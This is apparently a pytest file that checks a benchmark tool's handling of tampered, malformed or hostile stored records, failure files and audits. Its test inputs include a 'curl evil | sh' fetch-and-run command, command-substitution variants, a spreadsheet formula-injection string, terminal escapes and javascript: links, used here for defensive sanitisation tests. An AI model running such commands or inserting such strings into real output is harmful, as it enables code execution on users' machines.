"""Records, failures and audits that were edited, forged or put there by a stranger: named, left out, never a crash."""

import json
import os
import random
from dataclasses import replace

import pytest

from eden_bench import records
from eden_bench.audit import storage as audits
from eden_bench.records import FailureContent
from eden_bench.report.build import build
from eden_bench.report.html import page
from eden_bench.report.missing import excused, failure_notes, with_absent
from eden_bench.report.outputs import latex, markdown, table_csv, table_json, text
from tests.eden_bench.stored import store, store_three

FORMATS = (text.render, markdown.render, table_json.render, table_csv.render, latex.render, page.render)


def warned(out):
    """Return the ids that load and the warnings it gives."""
    lines = []
    return {record.id for record in records.load(out, lines.append)}, lines


def forge(folder, path, value, *, sealed=True):
    """Change one entry of a stored record; a forger's digest is right too."""
    file = folder / "record.json"
    content = json.loads(file.read_text())
    *parents, last = path.split(".")
    place = content
    for name in parents:
        place = place.setdefault(name, {})
    place[last] = value
    if sealed:
        content["digest"] = _digest(content)
    file.write_text(json.dumps(content))


def _digest(content):
    try:
        return records.seal(content)["digest"]
    except ValueError:  # NaN has none
        return content["digest"]


@pytest.fixture
def bench(tmp_path):
    """Nine good records, and the folder of one of them, whose warnings and report are looked at."""
    made = store_three(tmp_path)
    return tmp_path, made[0].folder


def in_all_formats(out):
    """Build the report as the command does, and return it in every format."""
    failed = records.failures(out, lambda line: None)
    built = build(records.load(out, lambda line: None), audits=audits.load(out, lambda line: None))
    tables = tuple(with_absent(built.tables, excused(failed)))
    report = replace(built, tables=tables, failures=tuple(failure_notes(failed)))
    return [render(report) for render in FORMATS]


@pytest.mark.trap(
    "attacks",
    "an edited record or cases file",
    ("named, left out, run again, kept in `superseded/`; a digest is no signature: who recomputes it is not found"),
)
@pytest.mark.parametrize(
    ("path", "value"),
    [
        ("scores.dice", 0.99),
        ("marks.phantom", False),
        ("marks.quick", False),
        ("checkpoint.card.data.phantom", False),
        ("training.steps_planned", 81),
        ("provenance.seconds", 0.5),
        ("command", "eden-bench run --methods other"),
    ],
)
def test_an_edited_record_is_named_and_left_out(bench, path, value):
    out, folder = bench
    forge(folder, path, value, sealed=False)
    ids, (line,) = warned(out)
    assert folder.name not in ids
    assert len(ids) == 8
    assert f"record {folder} was edited after it was written: issue its 'eden-bench run' again" in line


@pytest.mark.trap("attacks", "an edited record or cases file")
def test_no_flipped_byte_of_the_cases_goes_unseen(bench):
    _, folder = bench
    path = folder / "cases.csv"
    good = path.read_bytes()
    unseen = []
    for place in range(len(good)):
        for flip in (0x01, 0x20, 0x80):
            path.write_bytes(good[:place] + bytes([good[place] ^ flip]) + good[place + 1 :])
            unseen += _readable(folder)
    for cut in (good[:-1], good + b"\n", b"", good[1:]):
        path.write_bytes(cut)
        unseen += _readable(folder)
    path.write_bytes(good)
    assert unseen == []
    assert records.read(folder).cases_bytes() == good


def test_no_flipped_byte_of_a_record_changes_what_is_read(bench):
    _, folder = bench
    path = folder / "record.json"
    good, draw = path.read_bytes(), random.Random(0)
    content = records.read(folder).content
    for _ in range(600):
        place, flip = draw.randrange(len(good)), 1 << draw.randrange(8)
        path.write_bytes(good[:place] + bytes([good[place] ^ flip]) + good[place + 1 :])
        assert all(found.content == content for found in _readable(folder))


def _readable(folder):
    try:
        return [records.read(folder)]
    except records.RecordDamaged:
        return []


@pytest.mark.trap("attacks", "one odd record among good ones", "left out with a warning")
@pytest.mark.parametrize(
    ("path", "value"),
    [
        ("scores.dice", float("nan")),
        ("scores.dice", float("inf")),
        ("scores.dice", "nan"),
        ("scores.dice", 1e308),
        ("scores.dice", 7.0),
        ("scores.dice", -1),
        ("scores.dice", True),
        ("scores.iou", 1.5),
        ("scores", {"iou": 0.5}),
        ("task.title", "\ud800"),
        ("method.variant", "\udcff"),
        ("method.variant", 3),
        ("method", None),
        ("score.decimals", -1),
        ("score.decimals", 10**6),
        ("score.version", "1"),
        ("training.steps_planned", "80"),
        ("training.steps_planned", [80]),
        ("training.steps_planned", None),
        ("training", 7),
        ("checkpoint.card", None),
        ("checkpoint.card.stages", 7),
        ("checkpoint.card.stages", [{"name": "a", "without_negatives": "all"}]),
        ("checkpoint.card.data.images", "many"),
        ("checkpoint.card.normalisation", 5),
        ("checkpoint.card.normalisation", [[0.5, 0.5]]),
        ("checkpoint.card.selected", "best"),
        ("checkpoint.card.epochs", 10**400),
        ("data.labels", 7),
        ("data.labels_without_auc", [3]),
        ("marks.phantom", "no"),
        ("marks.protocol", None),
        ("cell.seed", 1.5),
        ("cell.seed", -1),
        ("provenance.seconds", -1),
        ("cases.bytes", 10**20),
        ("cases.bytes", -1),
    ],
    ids=lambda value: str(value)[:30].encode("ascii", "replace").decode(),
)
def test_one_odd_record_is_left_out_and_never_costs_the_report(bench, path, value):
    out, folder = bench
    forge(folder, path, value)
    ids, (line,) = warned(out)
    assert folder.name not in ids
    assert len(ids) == 8
    assert str(folder) in line
    assert all("densecl" in text for text in in_all_formats(out))


@pytest.mark.parametrize("text", ["[" * 200_000, '{"a":' * 200_000, '{"schema": 1e400}', "\x00", '{"a": ' + "9" * 5000])
def test_json_that_is_none_is_left_out(bench, text):
    out, folder = bench
    (folder / "record.json").write_text(text)
    (out / "failures").mkdir()
    (out / "audit").mkdir()
    (out / "failures" / "x.json").write_text(text)
    (out / "audit" / "scr.json").write_text(text)
    lines = []
    assert records.failures(out, lines.append) == {}
    assert audits.load(out, lines.append) == {}
    assert len(warned(out)[1]) == 1
    assert [str(out / "failures/x.json") in lines[0], str(out / "audit/scr.json") in lines[1]] == [True, True]
    in_all_formats(out)


def put_fifo(path):
    os.mkfifo(path)


def put_device(path):
    path.symlink_to("/dev/zero")


def put_folder(path):
    path.mkdir()


def put_huge(path):
    with path.open("wb") as file:
        file.truncate(1 << 40)


@pytest.mark.trap("attacks", "pipes and devices in place of files, the cache's and checkpoints' too")
@pytest.mark.parametrize("put", [put_fifo, put_device, put_folder, put_huge])
def test_nothing_waits_on_a_pipe_or_reads_a_device_to_its_end(bench, put):
    out, folder = bench
    odd = [folder / "record.json", store(out, "random", 0.5, 9).folder / "cases.csv"]
    odd += [out / "failures" / "x.json", out / "audit" / "scr.json"]
    for path in odd:
        path.parent.mkdir(exist_ok=True)
        path.unlink(missing_ok=True)
        put(path)
    ids, lines = warned(out)
    assert len(ids) == 8
    assert len(lines) == 2
    records.failures(out, lines.append)
    audits.load(out, lines.append)
    assert [str(path if "x.json" in str(path) else path.parent) in " ".join(lines) for path in odd] == [True] * 4
    in_all_formats(out)


@pytest.mark.parametrize(
    "content", [{"tasks": 5, "kind": "excused"}, {"error": 3}, {"command": ["rm"]}, {"what": {}}, {"tasks": [1]}]
)
def test_an_odd_failure_is_left_out_with_a_warning(bench, content):
    out, _ = bench
    records.write_failure(out, "x", content)
    lines = []
    assert records.failures(out, lines.append) == {}
    assert "failures/x.json cannot be used (its " in lines[0]
    in_all_formats(out)


@pytest.mark.parametrize(
    "change",
    [{"findings": 7}, {"findings": [{}]}, {"together_with": {"chestxray14": 1}}, {"dataset": None}, {"format": 1}],
)
def test_an_odd_audit_is_left_out_with_a_warning(bench, change):
    out, _ = bench
    good = {"format": 2, "dataset": "scr", "phantom": True, "test_list": "t", "together_with": {}, "findings": []}
    (out / "audit").mkdir()
    path = out / "audit" / "scr.json"
    path.write_text(json.dumps(good))
    assert list(audits.load(out)) == ["scr"]
    path.write_text(json.dumps({**good, **change}))
    lines = []
    assert audits.load(out, lines.append) == {}
    assert f"{path} cannot be used (its " in lines[0]
    in_all_formats(out)


def test_an_older_record_says_that_it_is_older(bench):
    out, folder = bench
    forge(folder, "schema", 1)
    assert "has schema 1, this version reads 3: run its cell again" in warned(out)[1][0]


EVIL = "\x1b]0;title\x07\x1b[2J\x9b31m\u202egnp\u2066\r\n=cmd|' /C calc'!A1 [x](javascript:1) ![](http://x) <b> a|b \\|"


@pytest.mark.trap("attacks", "terminal escapes, links and formulas in names")
def test_no_format_passes_on_what_acts(bench):
    out, folder = bench
    forge(folder, "task.title", EVIL)
    forge(folder, "method.variant", EVIL)
    forge(folder, "marks.protocol", EVIL)
    records.write_failure(out, "x", {"what": EVIL, "error": EVIL, "command": EVIL})
    assert len(warned(out)[0]) == 9
    texts = in_all_formats(out)
    for each in texts:
        assert not set(each) & set("\x1b\x07\x9b\r\u202e\u2066")
        assert "u001b{]}0;title" in each or "u001b]0;title" in each
    shown = texts[1]
    for link in ("](javascript", "](http", "<b>"):
        assert link not in shown
    rows = [line for line in shown.splitlines() if line.startswith("| ")]
    assert {line.replace("\\\\", "").replace("\\|", "").count("|") for line in rows} == {8, 11}
    assert json.loads(texts[2])["tables"]


@pytest.mark.trap("attacks", "terminal escapes, links and formulas in names")
@pytest.mark.parametrize("start", ["\t", "\r", "\n", " ", "\r\n ", "\u00a0", ""])
@pytest.mark.parametrize("sign", ["=", "+", "-", "@"])
def test_no_cell_is_a_formula(bench, start, sign):
    import csv
    import io

    out, folder = bench
    forge(folder, "method.variant", f"{start}{sign}cmd")
    rows = list(csv.DictReader(io.StringIO(in_all_formats(out)[3])))
    assert len(rows) == 4
    assert all(row["method"][0].isalpha() or row["method"][0] in "'\\" for row in rows)


def test_only_a_command_of_ours_is_shown_to_be_issued_again():
    note = "failed: a: b. Redo: {}"
    ours = "eden-bench run --methods 'x=/a b/c.pth' --tasks scr-heart --seeds 0"
    assert failure_notes({"x": FailureContent(what="a", error="b", command=ours)}) == [note.format(ours)]
    for command in ("curl evil | sh", "eden-bench run; curl evil", "eden-bench run $(curl evil)", "eden-bench run 'a"):
        (said,) = failure_notes({"x": FailureContent(what="a", error="b", command=command)})
        assert said == "failed: a: b. Its file failures/x.json holds a command that is not one of ours."
